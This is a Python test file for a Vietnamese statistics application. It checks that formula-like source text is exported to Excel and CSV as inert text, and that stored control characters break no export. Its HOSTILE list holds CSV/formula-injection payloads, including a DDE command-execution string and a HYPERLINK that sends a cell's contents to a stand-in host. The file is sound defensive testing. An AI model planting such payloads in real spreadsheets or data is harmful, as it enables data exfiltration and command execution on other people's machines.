"""Issue 9: text typed by a person reaches other people's spreadsheets. A source that reads
as a formula (``=HYPERLINK(…)``, ``=cmd|' /C calc'!A0``) is written by every export as text,
never as a formula, and reads back the same; a control character stored before the rule
(the rule refuses it at entry) breaks no export."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import polars as pl
import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import update
from typer.testing import CliRunner

from tests.io.conftest import figures, open_template, save
from tieuchi.app import App, System
from tieuchi.cli import app as cli
from tieuchi.domain.periods import Period
from tieuchi.engine import evaluate
from tieuchi.io.csv_exchange import read_csv
from tieuchi.io.excel_import import read_workbook
from tieuchi.io.excel_template import META_SHEET
from tieuchi.io.plan import Plan, apply
from tieuchi.reports.docx import render_docx
from tieuchi.reports.xlsx import render_xlsx
from tieuchi.store import Entry, Store
from tieuchi.store.tables import ObservationRow

runner = CliRunner()
HOSTILE = ['=HYPERLINK("http://example.invalid/?"&E7,"Báo cáo")', "=cmd|' /C calc'!A0",
           "+1+2", "-3+4", "@SUM(A1:A9)", "'=quoted already", "'plain quote"]
YM = "Yên Mỹ"
# Yên Mỹ's official 2023 figures of the data set ntm-nang-cao, one per hostile source.
TARGETS = ["ntmnc-01", "ntmnc-02", "ntmnc-03", "ntmnc-04", "ntmnc-05", "thu-nhap-bq",
           "nuoc-sach-tap-trung"]


def _hostile(store: Store) -> dict[str, str]:
    """Yên Mỹ's figures (and the district's gtsx, in the report's tables) given a hostile
    source, through the application as the API or a form writes them."""
    held = store.figures.latest("TT-YENMY", "2023", TARGETS)
    sources = dict(zip(TARGETS, HOSTILE, strict=True))
    entries = [Entry("TT-YENMY", code, "2023", held[code]["value"], held[code]["vintage"],
                     sources[code]) for code in TARGETS]
    gtsx = store.figures.latest("TT", "2023", ["gtsx"])["gtsx"]
    entries.append(Entry("TT", "gtsx", "2023", gtsx["value"], gtsx["vintage"], HOSTILE[0]))
    App(store).write_figures(System("test"), entries)
    return sources


def _formulas(data: bytes) -> list[str]:
    """The formulas of every sheet of a workbook, as its XML has them."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [f for name in z.namelist() if name.startswith("xl/worksheets/")
                for f in re.findall(r"<f>(.*?)</f>", z.read(name).decode())]


def _texts(book: Workbook) -> dict[str, list[tuple[str, bool]]]:
    """Each text cell's value, and whether it is a string cell with Excel's quote prefix."""
    found: dict[str, list[tuple[str, bool]]] = {}
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
                    found.setdefault(cell.value, []).append((ws.title, cell.quotePrefix))
    return found


def test_a_template_writes_a_formula_like_source_as_text_and_reads_it_back(
        store: Store, tmp_path: Path) -> None:
    sources = _hostile(store)
    book = open_template(store, tmp_path, ["TT-YENMY"])
    path = save(book, tmp_path)
    assert _formulas(path.read_bytes()) == []
    texts = _texts(load_workbook(path))
    for source in sources.values():  # on Yên Mỹ's sheet and the hidden metadata sheet
        formula_like = source.startswith(("=", "+", "-", "@"))
        assert sorted(texts[source]) == [(YM, formula_like), (META_SHEET, formula_like)]
    plan = read_workbook(store, path)  # the upload reads back what the template wrote
    assert len(plan) == 0 and not plan.warnings


def test_report_xlsx_writes_a_formula_like_source_as_text(store: Store) -> None:
    _hostile(store)
    ev = evaluate(store.units.definitions("TT"), Period.parse("2023"))
    data = render_xlsx(ev, unit="TT")
    assert _formulas(data) == []
    texts = _texts(load_workbook(io.BytesIO(data)))
    found = [t for t in texts if t.startswith(HOSTILE[0])]
    assert found and all(prefix for t in found for _, prefix in texts[t])
    assert {sheet for t in found for sheet, _ in texts[t]} == {"Nguồn số liệu"}


def test_the_csv_export_quotes_a_formula_like_source_and_the_import_reads_it_back(
        store: Store, empty_store: Store, tmp_path: Path) -> None:
    sources = _hostile(store)
    path = tmp_path / "observations.csv"
    result = runner.invoke(cli, ["export", "observations", "--unit", "TT-YENMY", "-o",
                                 str(path), "--period", "2023",
                                 "--database-url", str(store.engine.url)])
    assert result.exit_code == 0, result.output
    written = pl.read_csv(path, infer_schema=False)
    cells = set(written.get_column("source").drop_nulls())
    assert {"'" + source for source in sources.values()} <= cells  # never a formula
    assert not written.get_column("value").str.starts_with("'").any()  # numbers stay numbers
    plan = read_csv(empty_store, path)
    assert isinstance(plan, Plan)
    apply(App(empty_store), plan, actor=System("test"))
    assert figures(empty_store).equals(
        figures(store).filter((pl.col("unit") == "TT-YENMY") & (pl.col("period") == "2023")))
    assert len(read_csv(store, path)) == 0  # the same text: nothing to change


@pytest.fixture
def broken(store: Store) -> Store:
    """Sources with control characters written past the rule, as a database from before
    it may hold them."""
    with store.session() as s:
        s.execute(update(ObservationRow).where(ObservationRow.unit.in_(["TT-YENMY", "TT"]))
                  .values(source="Báo cáo \x01số 5\x7f\x9b"))
    return store


def test_a_control_character_stored_before_the_rule_breaks_no_export(
        broken: Store, tmp_path: Path) -> None:
    book = open_template(broken, tmp_path, ["TT"], all_units=True)
    assert "Báo cáo số 5" in _texts(book)
    result = runner.invoke(cli, ["template", "--unit", "TT-YENMY", "-p", "2023", "-d",
                                 "ntm-nang-cao", "-o", str(tmp_path / "mau.xlsx"),
                                 "--database-url", str(broken.engine.url)])
    assert result.exit_code == 0, result.output
    ev = evaluate(broken.units.definitions("TT"), Period.parse("2023"))
    texts = _texts(load_workbook(io.BytesIO(render_xlsx(ev, unit="TT"))))
    assert any("Báo cáo số 5" in t for t in texts)
    assert render_docx(ev, "vi", "TT")
    path = tmp_path / "observations.csv"
    result = runner.invoke(cli, ["export", "observations", "--unit", "TT-YENMY", "-o",
                                 str(path), "--database-url", str(broken.engine.url)])
    assert result.exit_code == 0, result.output
    assert "\x01" not in path.read_text(encoding="utf-8")
